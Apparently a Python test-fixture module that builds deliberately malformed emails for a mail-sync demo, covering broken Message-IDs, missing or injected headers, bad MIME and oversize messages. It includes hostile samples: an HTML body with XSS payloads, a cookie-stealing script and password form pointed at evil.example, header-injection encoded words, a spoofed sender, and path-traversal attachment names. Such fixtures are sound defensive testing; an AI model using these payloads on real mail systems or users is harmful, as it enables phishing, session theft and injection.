"""Messages that are wrong on purpose, each with the sentence that says how.

Mail like this arrives in every organisation. A sync must end each of them as tracked,
refused or quarantined; the demo contains them so that nobody forgets it, and tests make
thousands of further ones from them.
"""

from __future__ import annotations

from collections.abc import Iterator

from mailboxes.sandbox.demo.rawmail import RawMail

_FROM = "From: Anke Sommer <anke.sommer@nordwerk.example>\n"
_TO = "To: Turia Support <support@turia.example>\n"
_HEAD = "Date: {date}\n" + _FROM + _TO
_ID = "Message-ID: {id}\n"
_MIME = "MIME-Version: 1.0\n"
_TEXT = _MIME + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n"
_MIXED = _MIME + 'Content-Type: multipart/mixed; boundary="b"\n'

_HOSTILE = """\
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>@import "https://evil.example/a.css";</style></head>
<body onload="alert(1)"><p>Your parcel is waiting.
<script>document.location="https://evil.example/?"+document.cookie</script>
<img src="https://evil.example/pixel.gif" onerror="alert(2)"><svg onload=alert(3)></svg>
<a href="javascript:alert(4)">track it</a> <a href="https://evil.example/">https://turia.example/</a>
<form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe><table><tr><td>never closed
"""


def broken_mail() -> Iterator[RawMail]:
    """All deliberately broken messages; their `oddity` is never empty."""
    for number, (key, oddity, raw) in enumerate((*_identities(), *_headers(), *_bodies(), *_sizes())):
        holder = "support=junkemail" if key == "hostile" else "support"
        yield RawMail(
            f"odd-{key}",
            (holder,),
            f"{27 - number * 25 // 48} {8 + number % 9:02}:{number % 60:02}",
            raw,
            oddity,
            "nordwerk.example",
        )


def _identities() -> Iterator[tuple[str, str, str | bytes]]:
    """Message-IDs and reply headers that break the rules of RFC 5322 §3.6.4."""
    twice = "Message-ID: <the-same-id-for-all@scanner.nordwerk.example>\n"
    loop_a, loop_b = "<loop-a@nordwerk.example>", "<loop-b@nordwerk.example>"
    yield "no-id", "no Message-ID", _HEAD + "Subject: Reading of Monday\n" + _TEXT + "\n0.04 NTU, all fine.\n"
    for page in (1, 2):
        yield (
            f"same-id-{page}",
            "duplicate Message-ID",
            _HEAD + f"Subject: Scan {page} of 2\n" + twice + _TEXT + f"\nPage {page} from the scanner.\n",
        )
    yield (
        "bare-id",
        "Message-ID without angle brackets",
        _HEAD + ("Subject: From the old fax server\nMessage-ID: fax 0001 at nordwerk\n" + _TEXT + "\nFax, one page.\n"),
    )
    yield (
        "long-id",
        "Message-ID of 2000 characters",
        _HEAD
        + (
            f"Subject: Long name\nMessage-ID: <{'x' * 2000}@nordwerk.example>\n"
            + _TEXT
            + "\nThe name is longer than I.\n"
        ),
    )
    yield (
        "two-ids",
        "two Message-ID headers",
        _HEAD
        + (
            "Subject: Relayed twice\n"
            + _ID
            + "Message-ID: <second.name@relay.nordwerk.example>\n"
            + _TEXT
            + "\nWho am I?\n"
        ),
    )
    yield (
        "self",
        "answers itself",
        _HEAD + ("Subject: Re: Myself\n" + _ID + "In-Reply-To: {id}\nReferences: {id}\n" + _TEXT + "\nAs I said.\n"),
    )
    yield (
        "loop-a",
        "two messages that answer each other",
        _HEAD + (f"Subject: Re: Hen\nMessage-ID: {loop_a}\nIn-Reply-To: {loop_b}\n" + _TEXT + "\nThe egg was first.\n"),
    )
    yield (
        "loop-b",
        "two messages that answer each other",
        _HEAD + (f"Subject: Re: Egg\nMessage-ID: {loop_b}\nIn-Reply-To: {loop_a}\n" + _TEXT + "\nThe hen was first.\n"),
    )
    yield "references", "References full of rubbish", _HEAD + (
        "Subject: Re: Old thread\n" + _ID + "References: <a@b <c> >> , ,<> "
        + " ".join(f"<{n}@gone.example>" for n in range(120)) + "\nIn-Reply-To: your message of Monday\n"
        + _TEXT + "\nSee below. There is nothing below.\n"
    )  # fmt: skip


def _headers() -> Iterator[tuple[str, str, str | bytes]]:
    """Headers that are missing, raw, hostile or not headers at all."""
    note = _TEXT + "\nPlease call me back.\n"
    yield "no-from", "no From", "Date: {date}\n" + _TO + "Subject: Nobody\n" + _ID + note
    yield "no-date", "no Date", _FROM + _TO + "Subject: Timeless\n" + _ID + note
    yield (
        "bad-date",
        "a Date that is none",
        "Date: yesterday, after lunch\n" + _FROM + _TO + _ID + "Subject: When\n" + note,
    )
    yield (
        "far-date",
        "a Date in the year 2099",
        ("Date: Fri, 31 Dec 2099 23:59:60 +9959\n" + _FROM + _TO + "Subject: Later\n" + _ID + note),
    )
    yield (
        "8bit",
        "8-bit headers",
        (
            b"Date: {date}\r\nFrom: J\xfcrgen K\xf6hler <juergen.koehler@nordwerk.example>\r\n"
            b"To: support@turia.example\r\nSubject: Gr\xfc\xdfe aus L\xfcbeck\r\nMessage-ID: {id}\r\n\r\nKurze Frage.\r\n"
        ),
    )
    yield (
        "inject-subject",
        "header injection in an encoded word",
        _HEAD + ("Subject: =?utf-8?Q?Hello=0D=0ABcc:_victim@evil.example=0D=0A=0D=0AInjected_body?=\n" + _ID + note),
    )
    yield "inject-name", "header injection in a display name", (
        "Date: {date}\nFrom: =?utf-8?B?QW5rZQ0KWC1BZG1pbjogeWVz?= <anke.sommer@nordwerk.example>\n"
        + _TO + "Subject: Hello\n" + _ID + note
    )  # fmt: skip
    yield (
        "spoofed",
        "an address as display name, another one as address",
        (
            'Date: {date}\nFrom: "marta.ferrer@turia.example" <gift@evil.example>\n'
            + _TO
            + "Subject: Urgent\n"
            + _ID
            + note
        ),
    )
    yield (
        "two-froms",
        "two From headers and two Subjects",
        _HEAD + ("From: Somebody Else <else@evil.example>\nSubject: One\nSubject: Two\n" + _ID + note),
    )
    yield (
        "bad-words",
        "encoded words that cannot be decoded",
        _HEAD
        + (
            "Subject: =?utf-8?B?w?= =?no-such-charset?Q?caf=E9?= =?utf-8?X?abc?= =?utf-8?Q?=C3?= =?utf-8?Q?=BC?=\n"
            + _ID
            + note
        ),
    )
    yield (
        "quotes",
        "unbalanced quotes and comments in From",
        (
            'Date: {date}\nFrom: "Anke (Labor <anke.sommer@nordwerk.example>, ((\n'
            + _TO
            + "Subject: Quote\n"
            + _ID
            + note
        ),
    )
    yield (
        "group",
        "an empty group as recipient",
        ("Date: {date}\n" + _FROM + "To: undisclosed-recipients:;\nSubject: To all\n" + _ID + note),
    )
    yield (
        "eai",
        "an address outside ASCII without SMTPUTF8",
        ("Date: {date}\nFrom: Δοκιμή <δοκιμή@παράδειγμα.example>\n" + _TO + "Subject: Δοκιμή\n" + _ID + note),
    )
    yield "no-colon", "a header line without a colon", _HEAD + "Subject: Line\nthis is no header\n" + _ID + note
    yield (
        "no-gap",
        "no empty line between header and body",
        (_HEAD + _ID + "Subject: Squeezed\nDear support, there was no space left for an empty line.\n"),
    )
    yield (
        "controls",
        "NUL and control characters in headers and body",
        (
            b"Date: {date}\r\nFrom: Anke <anke.sommer@nordwerk.example>\r\nTo: support@turia.example\r\n"
            b"Subject: Zero\x00 and \x07 bell\r\nMessage-ID: {id}\r\n\r\nA \x00 in the text, \x1b[31mred\x1b[0m, \x7f.\r\n"
        ),
    )


def _bodies() -> Iterator[tuple[str, str, str | bytes]]:
    """Bodies that are not what their headers promise."""
    part = '--b\nContent-Type: text/plain; charset=utf-8\n\nThe file is below.\n\n--b\nContent-Type: image/png; name="p.png"\n'
    encoded = "Content-Transfer-Encoding: base64\n"
    yield "empty", "empty body", _HEAD + "Subject: Empty\n" + _ID + _TEXT + "\n"
    yield (
        "charset",
        "a charset that does not exist",
        _HEAD
        + "Subject: Klingon\n"
        + _ID
        + _MIME
        + ("Content-Type: text/plain; charset=x-klingon-8\n\nNuqneH, is there a charset for this?\n"),
    )
    yield (
        "lying",
        "Latin-1 bytes declared as UTF-8",
        (
            b"Date: {date}\r\nFrom: Timo <rechnung@nordwerk.example>\r\nTo: support@turia.example\r\nSubject: Umlaute\r\n"
            b"Message-ID: {id}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
            b"Content-Transfer-Encoding: 8bit\r\n\r\nM\xfcller, Stra\xdfe, \xed\xa0\x80 und \xc0\xaf.\r\n"
        ),
    )
    yield (
        "base64",
        "truncated base64",
        _HEAD
        + "Subject: Picture\n"
        + _ID
        + _MIXED
        + "\n"
        + part
        + encoded
        + ("\niVBORw0KGgoAAAANSUhEUgAAAEgAAAAkCAIAAAB\n--b--\n"),
    )
    yield (
        "not-base64",
        "base64 with foreign characters",
        _HEAD
        + "Subject: Noise\n"
        + _ID
        + _MIME
        + ("Content-Type: text/plain; charset=utf-8\n" + encoded + "\n!!!! this is *not* base64, is it? ====\n"),
    )
    yield (
        "cte",
        "an unknown transfer encoding",
        _HEAD
        + "Subject: Packed\n"
        + _ID
        + _MIME
        + ("Content-Type: text/plain\nContent-Transfer-Encoding: x-rot-26\n\nPacked so well that it looks the same.\n"),
    )
    yield (
        "no-end",
        "multipart without its end boundary",
        _HEAD + "Subject: Cut off\n" + _ID + _MIXED + "\n" + part + "\n",
    )
    yield (
        "no-boundary",
        "multipart without a boundary parameter",
        _HEAD + "Subject: Walls\n" + _ID + _MIME + ("Content-Type: multipart/alternative\n\n--x\n\nplain\n--x--\n"),
    )
    yield (
        "no-start",
        "multipart whose boundary never comes",
        _HEAD + "Subject: Waiting\n" + _ID + _MIXED + ("\nHere should be a part, but the gateway removed it.\n"),
    )
    yield (
        "path",
        "an attachment named like a system file",
        _HEAD
        + "Subject: Report\n"
        + _ID
        + _MIXED
        + (
            "\n--b\nContent-Type: application/pdf\n"
            "Content-Disposition: attachment; filename=\"../../../../etc/passwd\"; filename*=utf-8''%2e%2e%5c..%5cboot.ini%00.pdf\n"
            "\n%PDF-1.4\n--b--\n"
        ),
    )
    yield (
        "word-name",
        "a file name as encoded word (RFC 2047 §5 forbids it)",
        (
            _HEAD + "Subject: Datei\n" + _ID + _MIXED + "\n--b\n"
            'Content-Type: text/csv; name="=?iso-8859-1?Q?Tr=FCbung?= =?iso-8859-1?Q?_2024.csv?="\n'
            "Content-Disposition: attachment\n\nminute,ntu\n0,0.04\n--b--\n"
        ),
    )
    yield "hostile", "HTML that attacks its reader", (
        "Date: {date}\nFrom: Parcel <parcel@evil.example>\n" + _TO + "Subject: Your parcel\n" + _ID + _MIME
        + "Content-Type: text/html; charset=utf-8\n\n" + _HOSTILE
    )  # fmt: skip
    yield (
        "inner",
        "a forwarded message that is itself broken",
        _HEAD
        + "Subject: Fwd: ?\n"
        + _ID
        + _MIXED
        + ("\n--b\nContent-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\nU3ViamVjdDogeA0KDQp5\n--b--\n"),
    )
    yield (
        "lf",
        "bare LF and bare CR line ends",
        (
            b"Date: {date}\nFrom: anke.sommer@nordwerk.example\rTo: support@turia.example\nSubject: Unix\nMessage-ID: {id}\n\na\rb\n"
        ),
    )
    yield "zero", "no bytes at all", b""
    yield "binary", "not a message but a picture", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00"


def _sizes() -> Iterator[tuple[str, str, str | bytes]]:
    """Too long, too many, too deep."""
    crowd = ",\n ".join(f"Guest {n} <guest{n}@invited.example>" for n in range(400))
    deep = "".join(
        f'Content-Type: multipart/mixed; boundary="d{level}"\n\n--d{level}\n' for level in range(60)
    )  # fmt: skip
    parts = "".join(f"--b\nContent-Type: text/plain\n\npart {n}\n" for n in range(250))
    yield (
        "subject",
        "a subject of 5000 characters",
        _HEAD + f"Subject: {'very ' * 1000}long\n" + _ID + _TEXT + "\nSorry.\n",
    )
    yield (
        "folded",
        "a header of 100 000 characters",
        _HEAD
        + (
            "X-Trace: "
            + "\n ".join("0123456789" * 7 for _ in range(1400))
            + "\nSubject: Traced\n"
            + _ID
            + _TEXT
            + "\nThere.\n"
        ),
    )
    yield (
        "crowd",
        "four hundred recipients",
        "Date: {date}\n" + _FROM + f"To: {crowd}\nSubject: Open day\n" + _ID + (_TEXT + "\nYou are all invited.\n"),
    )
    yield (
        "line",
        "one body line of 80 000 characters",
        _HEAD + "Subject: One line\n" + _ID + _TEXT + "\n" + "data " * 16000 + "\n",
    )
    yield (
        "deep",
        "multiparts sixty deep",
        _HEAD + "Subject: Boxes\n" + _ID + _MIME + deep + "\nThe last box is empty.\n",
    )
    yield (
        "parts",
        "two hundred and fifty parts",
        _HEAD + "Subject: Confetti\n" + _ID + _MIXED + "\n" + parts + "--b--\n",
    )
